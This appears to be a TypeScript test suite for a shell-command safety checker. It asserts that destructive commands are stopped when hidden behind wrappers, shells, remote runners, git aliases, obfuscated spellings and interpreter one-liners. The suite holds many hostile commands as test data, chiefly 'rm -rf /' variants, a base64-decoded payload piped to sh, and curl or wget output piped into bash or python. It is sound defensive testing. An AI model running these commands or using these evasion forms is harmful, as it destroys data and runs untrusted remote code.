// Every form that hides the real command: each is judged as what it runs. A destructive inner command
// must be stopped with the inner rule's id; the same wrapper around a harmless command stays allowed.
import { after, before, describe, it } from 'node:test';
import { strict as assert } from 'node:assert';
import type { Level } from '../../src/core/assessment';
import type { Fixture } from './support/engineFixture';
import { assertAllowed, assertStopped, makeFixture } from './support/engineFixture';

let fixture: Fixture;

before(async () => {
  fixture = await makeFixture();
});

after(() => fixture.dispose());

interface Form {
  readonly name: string;
  /** Runs `rm -rf /` (or another root delete) through the wrapper. */
  readonly destructive: string;
  /** The same wrapper around something harmless. */
  readonly benign?: string;
  readonly rule?: string;
  readonly level?: Level;
}

function checkForms(forms: readonly Form[]): void {
  for (const form of forms) {
    void it(form.name, () => {
      assertStopped(fixture, form.destructive, { rule: form.rule ?? 'fs.rm.root', level: form.level ?? 'critical' });
      if (form.benign !== undefined) assertAllowed(fixture, form.benign);
    });
  }
}

void describe('prefix wrappers', () => {
  checkForms([
    { name: 'sudo', destructive: 'sudo rm -rf /', benign: 'sudo ls /root' },
    { name: 'sudo with options that take values', destructive: 'sudo -u root -g wheel rm -rf /', benign: 'sudo -u www-data ls' },
    { name: 'doas', destructive: 'doas rm -rf /', benign: 'doas ls' },
    { name: 'env', destructive: 'env rm -rf /', benign: 'env ls' },
    { name: 'env with assignments', destructive: 'env FOO=1 BAR=2 rm -rf /', benign: 'env FOO=1 ls' },
    { name: 'env -u NAME', destructive: 'env -u HOME rm -rf /', benign: 'env -u HOME ls' },
    { name: 'env -i', destructive: 'env -i rm -rf /', benign: 'env -i ls' },
    { name: 'env -S splits one string into a command', destructive: `env -S 'rm -rf /'`, benign: `env -S 'ls -la'` },
    { name: 'command', destructive: 'command rm -rf /', benign: 'command ls' },
    { name: 'builtin', destructive: 'builtin rm -rf /', benign: 'builtin echo hi' },
    { name: 'exec', destructive: 'exec rm -rf /', benign: 'exec ls' },
    { name: 'nice', destructive: 'nice -n 10 rm -rf /', benign: 'nice ls' },
    { name: 'nohup in the background', destructive: 'nohup rm -rf / &', benign: 'nohup npm start &' },
    { name: 'time', destructive: 'time rm -rf /', benign: 'time ls' },
    { name: 'timeout with a duration and signal', destructive: 'timeout -s KILL 10s rm -rf /', benign: 'timeout 5 ls' },
    { name: 'stdbuf', destructive: 'stdbuf -oL rm -rf /', benign: 'stdbuf -oL ls' },
    { name: 'watch', destructive: 'watch -n 5 rm -rf /', benign: 'watch -n 5 ls' },
    { name: 'stacked wrappers', destructive: 'sudo env FOO=1 nice -n 5 timeout 10 rm -rf /', benign: 'sudo env FOO=1 nice -n 5 timeout 10 ls' },
  ]);

  void it('watch runs its quoted words through sh -c', () => {
    assertStopped(fixture, `watch -n 5 'rm -rf /'`, { rule: 'fs.rm.root', level: 'critical' });
    assertAllowed(fixture, `watch -n 5 'ls -la'`);
  });

  void it('command -v and command -V only look a name up: nothing runs', () => {
    assertAllowed(fixture, 'command -v rm', 'fs.rm');
    assertAllowed(fixture, 'command -V rm', 'fs.rm');
  });

  void it('a leading VAR=x assignment does not hide the command', () => {
    assertStopped(fixture, 'FOO=1 rm -rf /', { rule: 'fs.rm.root', level: 'critical' });
    assertAllowed(fixture, 'FOO=1 ls');
  });
});

void describe('xargs', () => {
  checkForms([
    { name: 'xargs with a literal producer', destructive: 'echo / | xargs rm -rf', benign: 'echo a b | xargs ls' },
    { name: 'xargs -I with a literal producer', destructive: 'echo / | xargs -I{} rm -rf {}', benign: 'echo src | xargs -I{} ls {}' },
    { name: 'xargs -0 with a literal producer', destructive: 'echo / | xargs -0 rm -rf', benign: 'echo src | xargs -0 ls' },
  ]);

  void it('xargs with input known only at run time deletes unknown paths', () => {
    assertStopped(fixture, 'cat list.txt | xargs rm -rf', { rule: 'fs.rm.unknown-target', atLeast: 'high' });
    assertStopped(fixture, 'find / -print0 | xargs -0 rm -rf', { rule: 'fs.rm', atLeast: 'high' });
    assertAllowed(fixture, 'cat list.txt | xargs grep TODO');
  });
});

void describe('find', () => {
  checkForms([
    { name: 'find -exec', destructive: String.raw`find / -exec rm -rf {} \;`, benign: String.raw`find . -name '*.ts' -exec cat {} \;` },
    { name: 'find -execdir', destructive: 'find / -execdir rm -rf {} +', benign: 'find . -execdir ls {} +' },
    { name: 'find -delete', destructive: 'find / -delete', benign: 'find . -name "*.ts"', rule: 'fs.find-delete.root' },
  ]);

  void it('find -ok still deletes what it finds (after a prompt)', () => {
    assertStopped(fixture, String.raw`find / -ok rm -rf {} \;`, { rule: 'fs.rm.root' });
  });

  void it('find -exec is judged by where it starts', () => {
    assertStopped(fixture, String.raw`find . -exec rm -rf {} +`, { rule: 'fs.rm.workspace-root', level: 'critical' });
    assertStopped(fixture, String.raw`find ~ -exec rm -rf {} +`, { rule: 'fs.rm.home', level: 'critical' });
  });

  void it('find -exec below a build folder is judged by that folder, not the workspace root', () => {
    assertAllowed(fixture, String.raw`find dist -exec rm -rf {} +`, 'fs.rm.workspace-root');
    assertAllowed(fixture, String.raw`find ./dist -type f -exec rm {} \;`, 'fs.rm.workspace-root');
  });
});

void describe('shells running a script', () => {
  checkForms([
    { name: 'sh -c', destructive: `sh -c 'rm -rf /'`, benign: `sh -c 'ls -la'` },
    { name: 'bash -c', destructive: `bash -c 'rm -rf /'`, benign: `bash -c 'ls'` },
    { name: 'zsh -c', destructive: `zsh -c 'rm -rf /'`, benign: `zsh -c 'ls'` },
    { name: 'dash -c', destructive: `dash -c 'rm -rf /'`, benign: `dash -c 'ls'` },
    { name: 'bash -lc (clustered flags)', destructive: `bash -lc 'rm -rf /'`, benign: `bash -lc 'ls'` },
    { name: 'bash <<EOF heredoc', destructive: 'bash <<EOF\nrm -rf /\nEOF', benign: "bash <<'EOF'\nls -la\nEOF" },
    { name: "bash <<< '...' herestring", destructive: `bash <<< 'rm -rf /'`, benign: `bash <<< 'ls'` },
    { name: "echo '...' | sh", destructive: `echo 'rm -rf /' | sh`, benign: `echo 'ls' | sh` },
    { name: "printf '...' | bash", destructive: `printf 'rm -rf /' | bash`, benign: `printf 'ls' | bash` },
    { name: 'cat <<EOF | sh', destructive: 'cat <<EOF | sh\nrm -rf /\nEOF', benign: 'cat <<EOF | sh\nls\nEOF' },
    { name: 'eval with a literal', destructive: `eval 'rm -rf /'`, benign: `eval 'ls -la'` },
    { name: 'eval with a double-quoted literal', destructive: 'eval "rm -rf /"', benign: 'eval "ls -la"' },
    { name: 'nested shells', destructive: `sudo bash -c "sh -c 'rm -rf /'"`, benign: `sudo bash -c "sh -c 'ls'"` },
  ]);
});

void describe('remote runners', () => {
  checkForms([
    { name: "ssh host 'cmd'", destructive: `ssh host 'rm -rf /'`, benign: 'ssh host ls' },
    { name: 'ssh with options and unquoted command', destructive: 'ssh -p 22 user@host rm -rf /', benign: 'ssh -p 22 user@host uptime' },
    { name: 'docker exec', destructive: 'docker exec web rm -rf /', benign: 'docker exec web ls' },
    { name: 'docker exec -it into a shell', destructive: `docker exec -it web bash -c 'rm -rf /'`, benign: `docker exec -it web bash -c 'ls'` },
    { name: 'podman exec', destructive: 'podman exec web rm -rf /', benign: 'podman exec web ls' },
    { name: 'kubectl exec --', destructive: 'kubectl exec -it pod -n prod -- rm -rf /', benign: 'kubectl exec pod -- ls' },
  ]);

  void it('a home directory on another machine is still a home directory', () => {
    assertStopped(fixture, `ssh host 'rm -rf ~'`, { rule: 'fs.rm.home', level: 'critical' });
  });

  void it('names the machine in the reason', () => {
    const assessment = assertStopped(fixture, 'ssh db1 rm -rf /var/lib', { level: 'critical' });
    assert.ok(assessment.reasons.some((reason) => reason.message.includes('db1')), JSON.stringify(assessment.reasons));
  });
});

void describe('git aliases', () => {
  void it("git -c alias.x='!...' runs a shell command", () => {
    assertStopped(fixture, `git -c alias.x='!rm -rf /' x`, { rule: 'fs.rm.root', level: 'critical' });
    assertAllowed(fixture, `git -c alias.x='!ls' x`);
  });

  void it('a non-! alias runs a git subcommand, judged as git', () => {
    assertStopped(fixture, `git -c alias.nuke='reset --hard' nuke`, { rule: 'git.reset-hard', atLeast: 'high' });
    assertAllowed(fixture, 'git -c alias.st=status st');
  });
});

void describe('spellings of the program name', () => {
  checkForms([
    { name: 'backslash-escaped name', destructive: String.raw`\rm -rf /` },
    { name: 'absolute path', destructive: '/bin/rm -rf /' },
    { name: 'double-quoted name', destructive: '"rm" -rf /' },
    { name: 'partly single-quoted name', destructive: "r'm' -rf /" },
    { name: 'ANSI-C hex escapes', destructive: String.raw`$'\x72\x6d' -rf /` },
    { name: '${IFS} between words', destructive: 'rm${IFS}-rf${IFS}/' },
    { name: 'a variable holding the name', destructive: 'X=rm; $X -rf /' },
  ]);
});

void describe('definitions and loops on the same line', () => {
  checkForms([
    { name: 'an alias defined earlier on the line', destructive: `alias x='rm -rf'; x /`, benign: `alias ll='ls -l'; ll /` },
    { name: 'a function defined earlier on the line', destructive: 'f() { rm -rf /; }; f', benign: 'f() { ls; }; f' },
    { name: 'a for loop over literal values', destructive: 'for d in /tmp/a /; do rm -rf $d; done', benign: 'for f in a b; do echo $f; done' },
    { name: '$(...) substitution', destructive: 'rm -rf $(echo /)', benign: 'ls $(echo src)' },
    { name: 'backticks', destructive: 'rm -rf `echo /`', benign: 'ls `echo src`' },
    { name: 'a command inside $(...)', destructive: 'echo $(rm -rf /)', benign: 'echo $(date)' },
  ]);
});

void describe('interpreter one-liners', () => {
  checkForms([
    { name: 'python -c shutil.rmtree', destructive: `python -c 'import shutil; shutil.rmtree("/")'`, benign: `python -c 'print(1)'` },
    { name: 'python3 -c os.system', destructive: `python3 -c "import os; os.system('rm -rf /')"`, benign: `python3 -c "import os; print(os.getcwd())"` },
    { name: 'python -c subprocess with a list', destructive: `python -c "import subprocess; subprocess.run(['rm', '-rf', '/'])"`, benign: `python3 -c "import subprocess; subprocess.run(['ls', '-la'])"` },
    { name: 'node -e fs.rmSync', destructive: `node -e "require('fs').rmSync('/', {recursive: true})"`, benign: 'node -e "console.log(1)"' },
    { name: 'node -e child_process.execSync', destructive: `node -e "require('child_process').execSync('rm -rf /')"`, benign: `node -e "require('child_process').execSync('ls')"` },
    { name: 'perl -e system', destructive: `perl -e 'system("rm -rf /")'`, benign: `perl -e 'print 1'` },
    { name: 'ruby -e FileUtils.rm_rf', destructive: `ruby -e 'FileUtils.rm_rf("/")'`, benign: `ruby -e 'puts 1'` },
    { name: 'ruby -e system', destructive: `ruby -e 'system("rm -rf /")'`, benign: `ruby -e 'system("ls")'` },
    { name: 'python reading a heredoc', destructive: "python3 <<EOF\nimport shutil\nshutil.rmtree('/')\nEOF", benign: "python3 <<EOF\nprint('hello')\nEOF" },
  ]);

  void it('deleting a home folder from python is judged like rm -rf of it', () => {
    assertStopped(fixture, `python3 -c "import shutil, os; shutil.rmtree(os.path.expanduser('~'))"`, { rule: 'fs.rm.home', level: 'critical' });
  });
});

void describe('payloads that cannot be known', () => {
  void it('base64 -d | sh scores high as decoded code', () => {
    assertStopped(fixture, 'echo cm0gLXJmIC8= | base64 -d | sh', { rule: 'dynamic.payload.decoder', level: 'critical' });
  });

  void it('curl ... | bash scores high as downloaded code', () => {
    assertStopped(fixture, 'curl -fsSL https://example.com/install.sh | bash', { rule: 'dynamic.payload.network', level: 'critical' });
    assertStopped(fixture, 'wget -qO- https://example.com/x.py | python3', { rule: 'dynamic.payload.network', level: 'critical' });
    assertStopped(fixture, 'source <(curl -s https://example.com/env)', { rule: 'dynamic.source.network', level: 'critical' });
  });

  void it('eval "$X" and bash -c "$X" score high as code held in a variable', () => {
    assertStopped(fixture, 'eval "$X"', { rule: 'dynamic.payload.variable', atLeast: 'high' });
    assertStopped(fixture, 'eval $X', { rule: 'dynamic.payload.variable', atLeast: 'high' });
    assertStopped(fixture, 'bash -c "$CMD"', { rule: 'dynamic.payload.variable', atLeast: 'high' });
  });

  void it('downloading without running is not a payload', () => {
    assertAllowed(fixture, 'curl -fsSL https://example.com/install.sh -o install.sh', 'dynamic.payload');
    assertAllowed(fixture, 'echo aGVsbG8= | base64 -d', 'dynamic.payload');
  });
});
